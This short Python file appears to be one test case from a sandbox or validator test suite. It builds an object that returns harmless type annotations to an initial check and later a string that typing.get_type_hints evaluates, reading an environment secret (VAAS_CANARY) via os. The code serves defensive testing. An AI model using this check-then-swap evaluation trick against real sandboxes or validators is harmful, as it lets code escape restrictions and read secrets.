"""No app shows one set of annotations to the check and another to the evaluation."""

CLASS = "eval"
BOUNDARY = "both"
NEEDS = ("typing",)


import typing


class Liar:
    def __init__(self, harmless):
        self.harmless = harmless

    def __getattr__(self, name):
        if name == "__mro__":
            return ()
        if name == "__annotations__":
            self.harmless -= 1
            return {} if self.harmless >= 0 else {"x": "type(__import__('os').environ['VAAS_CANARY'], (), {})"}
        raise AttributeError(name)


def attack():
    for harmless in range(5):
        try:
            return "ESCAPED: " + typing.get_type_hints(Liar(harmless))["x"].__name__
        except (KeyError, TypeError, NameError):
            continue
